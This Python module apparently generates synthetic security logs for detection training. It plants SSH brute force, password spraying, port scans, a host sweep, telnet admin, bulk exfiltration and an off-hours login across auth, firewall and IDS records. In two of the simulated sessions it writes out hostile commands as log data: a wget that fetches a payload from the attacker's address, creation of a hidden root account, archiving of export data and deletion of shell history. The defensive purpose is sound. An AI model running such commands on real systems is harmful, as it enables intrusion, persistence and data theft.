"""Planted host and network behaviours: brute force, spraying, scans, sweeps, telnet, exfiltration.

Each behaviour is written consistently into every log that would really see it (the host's auth
log, the border firewall, the provincial IDS), so correlation across sources has something to find.
"""

from __future__ import annotations

import random
from datetime import datetime, timedelta

from secaware.samples.auth import failed_password, next_pid, session_lines
from secaware.samples.ids import session_events
from secaware.samples.iptables import ufw_block
from secaware.samples.model import Behaviour, Bundle, FwSession, Label, SyslogMsg
from secaware.samples.topology import Site, site_by_abbr, system_by_id

SSH_SCAN = (2001219, "ET SCAN Potential SSH Scan", "Attempted Information Leak", 2)
PORT_ALERTS = {
    3306: (2010937, "ET SCAN Suspicious inbound to mySQL port 3306", "Potentially Bad Traffic", 2),
    1433: (2010935, "ET SCAN Suspicious inbound to MSSQL port 1433", "Potentially Bad Traffic", 2),
    1521: (2010936, "ET SCAN Suspicious inbound to Oracle SQL port 1521", "Potentially Bad Traffic", 2),
    5900: (2002911, "ET SCAN Potential VNC Scan 5900-5920", "Attempted Information Leak", 2),
}
TOP_PORTS = (
    21,
    22,
    23,
    25,
    53,
    80,
    81,
    88,
    110,
    111,
    135,
    139,
    143,
    389,
    443,
    445,
    465,
    502,
    587,
    631,
    873,
    993,
    995,
    1080,
    1099,
    1433,
    1521,
    1723,
    2049,
    2181,
    2375,
    3000,
    3128,
    3306,
    3389,
    4443,
    4848,
    5000,
    5432,
    5601,
    5672,
    5900,
    5984,
    6379,
    6443,
    7001,
    7002,
    7474,
    8000,
    8001,
    8008,
    8009,
    8080,
    8081,
    8088,
    8161,
    8443,
    8500,
    8834,
    8888,
    9000,
    9001,
    9042,
    9090,
    9200,
    9300,
    9418,
    9999,
    10000,
    10250,
    11211,
    15672,
    27017,
    50000,
    50070,
)


def _ssh_fw(
    site: Site,
    t: datetime,
    src: str,
    dst: str,
    rng: random.Random,
    label: Label,
    ok: bool = False,
    port: int = 22,
    app: str = "SSH",
    policy: str = "Mgmt Access",
) -> FwSession:
    dur = rng.uniform(600, 1800) if ok else rng.uniform(2, 9)
    return FwSession(
        t,
        t + timedelta(seconds=dur),
        "TCP",
        src,
        rng.randint(32768, 60999),
        dst,
        port,
        app,
        sent=rng.randint(60_000, 400_000) if ok else rng.randint(2_100, 3_400),
        rcvd=rng.randint(90_000, 900_000) if ok else rng.randint(2_500, 4_100),
        sent_pkts=rng.randint(300, 2_000) if ok else rng.randint(14, 22),
        rcvd_pkts=rng.randint(300, 2_000) if ok else rng.randint(12, 20),
        policy=policy,
        label=label,
    )


def ssh_bruteforce(bundle: Bundle, sites: tuple[Site, ...], t: datetime, rng: random.Random) -> None:
    """Baiyin OA host: an hour of guessing, faillock on root, then a weak account falls and sudo follows."""
    site, system = site_by_abbr(sites, "by"), system_by_id(sites, "by-oa")
    host, src = system.hosts[0], "61.177.172.140"
    label = Label("ssh_bruteforce", f"src={src}; SSH password guessing against {host.name}")
    start = t
    msgs: list[SyslogMsg] = []
    root_fails = 0
    for i in range(96):
        user = (
            "root"
            if i % 3 == 0
            else ("oaadmin" if i % 3 == 1 else rng.choice(("admin", "oracle", "test", "ubuntu")))
        )
        msgs += failed_password(
            system,
            host,
            t,
            user,
            src,
            rng,
            invalid=user in ("admin", "oracle", "test", "ubuntu"),
            label=label,
        )
        if user == "root":
            root_fails += 1
            if root_fails % 3 == 0:
                msgs.append(
                    SyslogMsg(
                        t + timedelta(seconds=2.2),
                        host.name,
                        "sshd",
                        msgs[-1].pid,
                        "pam_faillock(sshd:auth): Consecutive login failures for user root account "
                        "temporarily locked",
                        label,
                    )
                )
        bundle.fw.setdefault(site.code, []).append(_ssh_fw(site, t, src, host.ip, rng, label))
        t += timedelta(seconds=rng.uniform(12, 40))
    win = Label("ssh_bruteforce", f"src={src}; brute force succeeded: login and sudo on {host.name}")
    msgs += session_lines(
        system,
        host,
        t,
        "oaadmin",
        src,
        rng,
        method="password",
        commands=(
            "/bin/bash",
            "/usr/bin/wget http://61.177.172.140:8080/x86_64 -O /tmp/.sysd",
            "/usr/sbin/useradd -o -u 0 -g 0 sysupdate",
        ),
        duration=1_500,
        label=win,
    )
    bundle.fw[site.code].append(_ssh_fw(site, t, src, host.ip, rng, win, ok=True))
    bundle.auth.setdefault(system.id, []).extend(msgs)
    fw = FwSession(
        start, t, "TCP", src, 40000, system.public_ip, 22, "SSH", sent=4_000, rcvd=4_000, sent_pkts=20
    )
    bundle.eve += session_events(fw, rng, SSH_SCAN, app="ssh", label=label)
    bundle.behaviours.append(
        Behaviour(
            "ip",
            src,
            start,
            t + timedelta(seconds=1_500),
            "ssh_bruteforce",
            f"96 failed SSH logins on {host.name}, then success as oaadmin and sudo",
        )
    )
    bundle.behaviours.append(
        Behaviour(
            "user",
            "oaadmin",
            t,
            t + timedelta(seconds=1_500),
            "ssh_bruteforce",
            f"account compromised by brute force from {src}",
        )
    )


def password_spraying(bundle: Bundle, sites: tuple[Site, ...], t: datetime, rng: random.Random) -> None:
    """Qingyang 政务服务 host: one source, forty account names, one or two tries each."""
    site, system = site_by_abbr(sites, "qy"), system_by_id(sites, "qy-zwfw")
    host, src = system.hosts[0], "45.135.232.27"
    label = Label("password_spraying", f"src={src}; one password tried across many accounts on {host.name}")
    users = (
        "admin",
        "test",
        "oracle",
        "postgres",
        "ubuntu",
        "user",
        "git",
        "ftpuser",
        "deploy",
        "www",
        "mysql",
        "guest",
        "zhangsan",
        "lisi",
        "wangwei",
        "liuyang",
        "zhangwei",
        "wangfang",
        "liqiang",
        "ops",
        "wangjun",
        "jenkins",
        "tomcat",
        "nginx",
        "hadoop",
        "es",
        "redis",
        "zabbix",
        "backup",
        "support",
        "dev",
        "sysadmin",
        "gsadmin",
        "qyadmin",
        "zwfw",
        "webadmin",
        "operator",
        "test01",
        "admin123",
        "centos",
    )
    start = t
    valid = ("ops", "wangjun", "liqiang")
    for user in users:
        for _ in range(rng.choice((1, 1, 2))):
            msgs = failed_password(system, host, t, user, src, rng, invalid=user not in valid, label=label)
            bundle.auth.setdefault(system.id, []).extend(msgs)
            bundle.fw.setdefault(site.code, []).append(_ssh_fw(site, t, src, host.ip, rng, label))
            t += timedelta(seconds=rng.uniform(30, 90))
    bundle.behaviours.append(
        Behaviour(
            "ip",
            src,
            start,
            t,
            "password_spraying",
            f"{len(users)} accounts tried on {host.name}, 1-2 attempts each",
        )
    )


def port_scan(bundle: Bundle, sites: tuple[Site, ...], t: datetime, rng: random.Random) -> None:
    """Wuwei portal host: a fast TCP SYN scan; the H3C denies most, a legacy 8000-9000 rule lets some in."""
    site, system = site_by_abbr(sites, "ww"), system_by_id(sites, "ww-portal")
    host, src = system.hosts[0], "193.32.162.84"
    label = Label("port_scan", f"src={src}; TCP port scan of {host.ip}")
    start = t
    ports = sorted(set(TOP_PORTS) | set(rng.sample(range(1, 10_000), 140)))
    for port in ports:
        sport = rng.randint(40_000, 65_000)
        if port in (80, 443) or 8000 <= port <= 9000:
            s = FwSession(
                t,
                t + timedelta(seconds=rng.uniform(1, 3)),
                "TCP",
                src,
                sport,
                host.ip,
                port,
                "TCP-ANY",
                sent=44 if port not in (80, 443) else 104,
                rcvd=0 if port not in (80, 443) else 58,
                sent_pkts=1 if port not in (80, 443) else 2,
                rcvd_pkts=0 if port not in (80, 443) else 1,
                policy="DMZ Legacy 8000-9000",
                label=label,
            )
            if port not in (80, 443):
                bundle.kern.setdefault(system.id, []).append(
                    ufw_block(host, t, src, "TCP", sport, port, rng, label=label)
                )
        else:
            s = FwSession(
                t,
                t,
                "TCP",
                src,
                sport,
                host.ip,
                port,
                "TCP-ANY",
                action="deny",
                sent=44,
                sent_pkts=1,
                label=label,
            )
        bundle.fw.setdefault(site.code, []).append(s)
        if port in PORT_ALERTS:
            pub = FwSession(
                t,
                t + timedelta(seconds=1),
                "TCP",
                src,
                sport,
                system.public_ip,
                port,
                "TCP-ANY",
                sent=44,
                sent_pkts=1,
            )
            bundle.eve += session_events(pub, rng, PORT_ALERTS[port], label=label)
        t += timedelta(seconds=rng.uniform(0.05, 0.6))
    bundle.behaviours.append(
        Behaviour("ip", src, start, t, "port_scan", f"{len(ports)} TCP ports on {host.ip}")
    )


def host_sweep(bundle: Bundle, sites: tuple[Site, ...], t: datetime, rng: random.Random) -> None:
    """Longnan's public /24: one source, one port (SSH), every address in turn; the Sangfor denies it."""
    site = site_by_abbr(sites, "ln")
    src = "80.94.95.115"
    label = Label("host_sweep", f"src={src}; sweep of 61.178.{100 + site.index}.0/24 on tcp/22")
    start = t
    for last in range(1, 255):
        dst = f"61.178.{100 + site.index}.{last}"
        bundle.fw.setdefault(site.code, []).append(
            FwSession(
                t,
                t,
                "TCP",
                src,
                rng.randint(40_000, 65_000),
                dst,
                22,
                "SSH",
                action="deny",
                sent=60,
                sent_pkts=1,
                label=label,
            )
        )
        t += timedelta(seconds=rng.uniform(0.02, 0.4))
    bundle.behaviours.append(
        Behaviour(
            "ip",
            src,
            start,
            t,
            "host_sweep",
            f"254 addresses of 61.178.{100 + site.index}.0/24 probed on tcp/22",
        )
    )


def telnet_admin(bundle: Bundle, sites: tuple[Site, ...], times: list[datetime], rng: random.Random) -> None:
    """Pingliang: an administrator still manages the 公积金 host over plaintext telnet."""
    site, system = site_by_abbr(sites, "pl"), system_by_id(sites, "pl-gjj")
    host, src = system.hosts[0], f"10.{site.index}.250.31"
    label = Label("telnet_admin", f"src={src}; plaintext telnet login to {host.name}")
    for t in times:
        tpid = next_pid(rng, system, t)
        lpid = tpid + 1
        end = t + timedelta(seconds=rng.uniform(300, 1_200))
        bundle.auth.setdefault(system.id, []).extend(
            [
                SyslogMsg(t, host.name, "in.telnetd", tpid, f"connect from {src} ({src})", label),
                SyslogMsg(
                    t + timedelta(seconds=6.2),
                    host.name,
                    "login",
                    lpid,
                    "pam_unix(remote:session): session opened for user admin by LOGIN(uid=0)",
                    label,
                ),
                SyslogMsg(
                    t + timedelta(seconds=6.3),
                    host.name,
                    "login",
                    lpid,
                    f"LOGIN ON pts/1 BY admin FROM {src}",
                    label,
                ),
                SyslogMsg(
                    end,
                    host.name,
                    "login",
                    lpid,
                    "pam_unix(remote:session): session closed for user admin",
                    label,
                ),
            ]
        )
        bundle.fw.setdefault(site.code, []).append(
            _ssh_fw(site, t, src, host.ip, rng, label, ok=True, port=23, app="TELNET")
        )
        bundle.behaviours.append(
            Behaviour(
                "ip", src, t, end, "telnet_admin", f"telnet (tcp/23) administration of {host.name} as admin"
            )
        )


def exfiltration(bundle: Bundle, sites: tuple[Site, ...], t: datetime, rng: random.Random) -> None:
    """Jiuquan 不动产 host uploads ~650 MB to one VPS at night in many TLS sessions."""
    site, system = site_by_abbr(sites, "jq"), system_by_id(sites, "jq-bdc")
    host, dst = system.hosts[0], "45.144.30.77"
    label = Label("data_exfiltration", f"src={host.ip}; bulk upload to {dst}:443")
    start = t
    total = 0
    for _ in range(34):
        sent = rng.randint(12_000_000, 26_000_000)
        total += sent
        dur = sent / rng.uniform(1_500_000, 3_000_000)
        s = FwSession(
            t,
            t + timedelta(seconds=dur),
            "TCP",
            host.ip,
            rng.randint(32768, 60999),
            dst,
            443,
            "HTTPS",
            sent=sent,
            rcvd=rng.randint(90_000, 400_000),
            sent_pkts=sent // 1_400,
            rcvd_pkts=rng.randint(4_000, 9_000),
            policy="Internet Access",
            label=label,
        )
        bundle.fw.setdefault(site.code, []).append(s)
        nat = FwSession(
            s.start,
            s.end,
            "TCP",
            f"61.178.{100 + site.index}.2",
            s.sport,
            dst,
            443,
            "HTTPS",
            sent=s.sent,
            rcvd=s.rcvd,
            sent_pkts=s.sent_pkts,
            rcvd_pkts=s.rcvd_pkts,
        )
        bundle.eve += session_events(nat, rng, app="tls", label=label)
        t = s.end + timedelta(seconds=rng.uniform(20, 240))
    bundle.behaviours.append(
        Behaviour(
            "ip",
            host.ip,
            start,
            t,
            "data_exfiltration",
            f"{total // 1_000_000} MB sent to {dst} in 34 sessions",
        )
    )
    bundle.behaviours.append(
        Behaviour("ip", dst, start, t, "data_exfiltration", f"receiver of data from {host.ip}")
    )


def offhours_login(bundle: Bundle, sites: tuple[Site, ...], t: datetime, rng: random.Random) -> None:
    """Longnan 不动产 host: a valid admin logs in at 03:07 from a public, non-management address."""
    site, system = site_by_abbr(sites, "ln"), system_by_id(sites, "ln-bdc")
    host, src = system.hosts[0], "117.50.40.129"
    label = Label("offhours_login", f"src={src}; successful SSH login as ops at 03:07 from a public address")
    bundle.auth.setdefault(system.id, []).extend(
        session_lines(
            system,
            host,
            t,
            "ops",
            src,
            rng,
            method="password",
            commands=(
                "/usr/bin/tar czf /tmp/.cache.tgz /data/bdc/export",
                "/usr/bin/rm -f /root/.bash_history",
            ),
            duration=1_320,
            label=label,
        )
    )
    bundle.fw.setdefault(site.code, []).append(_ssh_fw(site, t, src, host.ip, rng, label, ok=True))
    bundle.behaviours.append(
        Behaviour(
            "ip",
            src,
            t,
            t + timedelta(seconds=1_320),
            "offhours_login",
            f"SSH login as ops on {host.name} at 03:07 Beijing time",
        )
    )
    bundle.behaviours.append(
        Behaviour(
            "user", "ops", t, t + timedelta(seconds=1_320), "offhours_login", f"on {host.name} from {src}"
        )
    )
